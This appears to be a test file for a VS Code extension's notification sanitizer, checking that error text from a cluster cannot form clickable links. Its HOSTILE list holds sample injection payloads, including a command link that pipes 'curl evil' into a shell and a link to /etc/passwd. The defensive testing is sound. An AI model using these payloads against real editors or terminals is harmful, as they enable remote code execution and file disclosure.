/**
 * notificationText: VS Code makes links of `[label](command:...)`, `(https://...)` and `(file:...)`
 * in a notification and opens them with commands allowed; a message quoting a cluster (an error
 * with a remote's stderr, a name, a value) must never offer one.
 */
import * as assert from 'node:assert/strict';
import { notificationText } from '../../../src/ui/notification-text';

/** VS Code's own pattern for links in a notification (src/vs/base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const HOSTILE = [
  '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'gnt-node add exited with code 1: [details](https://evil.example/track) and [x](file:///etc/passwd "t")',
  'tag [a]([b](command:x))',
  '[x] (command:y) [y]\n(command:z)',
];

describe('notification text (notification-text.ts)', () => {
  it('no hostile text forms a link VS Code would open, and it reads the same', () => {
    for (const text of HOSTILE) {
      const shown = notificationText(text);
      assert.equal(shown.match(VSCODE_LINK), null, `a link in ${JSON.stringify(shown)}`);
      assert.equal(shown.replace(/\u200b/g, ''), text.replace(/\n/g, '\\u000a'), 'only the zero-width space (and the escaped newline) differ');
    }
    assert.deepEqual(HOSTILE.map((t) => t.match(VSCODE_LINK)?.length ?? 0), [1, 2, 1, 0], 'the pattern does find the raw links');
  });

  it('a message is one line with controls and bidi overrides escaped; plain messages are unchanged', () => {
    assert.equal(notificationText('a\nb\u001b[2J\u202e'), 'a\\u000ab\\u001b[2J\\u202e');
    assert.equal(notificationText('Ganeti: Write Config failed: node1.example.com (10.0.0.1): exited with code 1'), 'Ganeti: Write Config failed: node1.example.com (10.0.0.1): exited with code 1');
  });
});
